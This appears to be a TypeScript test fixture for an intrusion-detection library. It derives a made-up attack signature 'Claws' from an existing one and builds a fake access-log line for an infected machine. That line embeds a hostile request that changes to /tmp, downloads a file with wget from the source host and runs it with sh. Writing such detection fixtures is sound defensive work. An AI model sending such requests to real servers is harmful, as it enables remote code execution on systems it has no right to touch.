import { type Signature, signatures } from '@redalert/core'

/** A family that no program knows, which convinces: one that is known, with other names and another door. For tests. */
export const claws: Signature = JSON.parse(
  JSON.stringify({ ...signatures.find(({ id }) => id === 'jaws'), id: 'claws', name: 'Claws' })
    .replaceAll('jaws-', 'claws-')
    .replaceAll('"/shell"', '"/clawshell"')
    .replaceAll(/(GET|POST|HEAD) \/shell/g, '$1 /clawshell'),
) as Signature

/** The line that an infected machine of that family leaves in the log of whomever it knocks at. */
export function clawsLine(source: string, time = '19/Jul/2001:16:08:00 +0200'): string {
  const request = `GET /clawshell?cd+/tmp;wget+http://${source}/m;sh+m HTTP/1.1`
  return `${source} - - [${time}] "${request}" 404 283 "-" "-"\n`
}
